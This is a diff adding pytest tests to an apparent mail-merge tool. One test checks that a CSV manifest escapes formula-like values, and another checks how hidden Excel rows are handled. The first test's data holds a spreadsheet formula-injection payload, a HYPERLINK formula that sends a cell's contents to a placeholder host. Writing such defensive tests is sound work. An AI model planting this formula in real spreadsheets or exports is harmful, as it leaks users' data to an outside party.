@@ -268,3 +268,52 @@ def test_preview_of_one_record_keeps_the_manifest_of_the_set(
                     tmp_path / "out", record=1, overwrite=True)
     assert preview.manifest is None
     assert (out / "manifest.json").read_bytes() == before
+
+
+def test_csv_manifest_keeps_formula_like_values_inert(tmp_path: Path,
+                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    """A file named after '=HYPERLINK(…)' or '-1' must be text in Excel, not a formula."""
+    import csv
+
+    data = write_json(tmp_path / "data.json", [{"naam": '=HYPERLINK("http://x/?d="&B1,"K")'},
+                                              {"naam": "+31 6"}, {"naam": "@SUM(A1)"},
+                                              {"naam": "Gewoon"}])
+    template = tmp_path / "mail.html"
+    template.write_text("<p>{{ naam }}</p>", encoding="utf-8")
+    data.rename(tmp_path / "=data.json")
+    monkeypatch.chdir(tmp_path)
+    result = merge(template, Path("=data.json"), tmp_path / "out", name="{naam}",
+                   manifest="csv")
+    assert result.manifest is not None
+    rows = list(csv.DictReader(result.manifest.read_text(encoding="utf-8").splitlines()))
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@")), row
+    assert [row["output"][:1] for row in rows[:3]] == ["'", "'", "'"]
+    assert rows[0]["record"].startswith("'=")
+    assert rows[3]["output"] == "Gewoon.html"
+
+
+def test_merge_hidden_rows_refused_skipped_or_included(tmp_path: Path) -> None:
+    import openpyxl
+
+    path = tmp_path / "data.xlsx"
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    for row in (["naam"], ["A"], ["Verborgen"], ["C"]):
+        sheet.append(row)
+    sheet.row_dimensions[3].hidden = True
+    workbook.save(path)
+    template = tmp_path / "mail.html"
+    template.write_text("<p>{{ naam }}</p>", encoding="utf-8")
+    with pytest.raises(ProblemList, match=r"data.xlsx:Sheet:row 3: the row is hidden"):
+        merge(template, path, tmp_path / "refused")
+    assert not (tmp_path / "refused").exists()
+    skipped = merge(template, path, tmp_path / "skip", hidden_rows="skip")
+    assert [o.path.name for o in skipped.outputs] == ["A.html", "C.html"]
+    runner = CliRunner()
+    done = runner.invoke(cli, ["merge", str(template), str(path), "--out",
+                               str(tmp_path / "all"), "--hidden-rows", "include"])
+    assert done.exit_code == 0, done.output
+    assert sorted(p.name for p in (tmp_path / "all").glob("*.html")) == [
+        "A.html", "C.html", "Verborgen.html"]
